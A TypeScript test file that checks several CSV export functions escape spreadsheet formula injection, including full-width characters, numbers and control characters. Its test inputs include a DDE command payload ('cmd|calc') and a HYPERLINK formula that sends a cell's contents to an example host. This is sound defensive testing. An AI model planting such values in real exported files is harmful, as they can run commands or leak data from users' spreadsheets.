import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvLine } from '../serving/output/csv-line.ts';
import { csvLine as accountsLine } from './accounts/csv.ts';
import { csvRow } from './resolve/csv.ts';
import { csvLines } from './screen/csv.ts';

const cells = (line: string): string[] => parse(line, { relax_column_count: true })[0] ?? [];
const starts = /^[=+\-@\uff1d\uff0b\uff0d\uff20\t\r\n]/;

describe('a text that a spreadsheet would run', () => {
  test.each([
    '=1+1',
    '+44 20 7946 0000',
    '-2+3+cmd|calc',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\uff1d1',
    '=HYPERLINK("https://example.com","x")',
    '-£5 off',
  ])('%j gets an apostrophe in front', (text) => {
    expect(cells(csvLine(['name', text, 1]))).toEqual(['name', `'${text}`, '1']);
  });

  const name = '=HYPERLINK("https://example.com?"&A1,"HERON LTD")';
  test.each([
    ['screen', () => csvLines({ line: 2, reference: '@ref', name, error: '-error' }), ['@ref', name, '-error']],
    ['resolve', () => csvRow({ line: 2, cells: [name, '-12.50', '+x'], error: '=error' }, 3, undefined), [name, '+x', '=error']],
    [
      'accounts',
      () => accountsLine({ name: '=a.html', archive: '@b.zip', namespaces: ['-c'], row: undefined, error: '+d' }),
      ['@b.zip', '-c', '+d'],
    ],
  ])('has one in the output of %s', (_command, line, texts) => {
    const written = cells(line());
    for (const text of texts) expect(written).toContain(`'${text}`);
    expect(written.filter((cell) => starts.test(cell) && cell !== '-12.50')).toEqual([]);
  });
});

test.each(['-12', '+12.5', '-1,234.50', '-£12.50', '-.5', '-1e-7', '+5%', '12', 'HERON - SONS', "'quoted", ''])(
  '%j stays as it is',
  (text) => {
    expect(cells(csvLine([text, 'x']))).toEqual([text, 'x']);
  },
);

test('a number is never changed, nor is any text that begins with another character', () => {
  fc.assert(
    fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (number) => {
      expect(cells(csvLine([number, String(number)]))).toEqual([String(number), String(number)]);
    }),
  );
  fc.assert(
    fc.property(fc.string({ minLength: 1, unit: 'grapheme-ascii' }), (text) => {
      expect(cells(csvLine([text, 'x']))).toEqual([starts.test(text) && !/^[+-]?[\d.]/.test(text) ? `'${text}` : expect.any(String), 'x']);
    }),
  );
});

test('a control character or a mark of direction is not written raw; tabs and line breaks within a text stay', () => {
  expect(cells(csvLine(['HERON\u001b[2J\u202edetimil', 'a\tb\nc', { text: '\u202e' }]))).toEqual([
    'HERON\ufffd[2J\ufffddetimil',
    'a\tb\nc',
    '{"text":"\\u202e"}',
  ]);
});
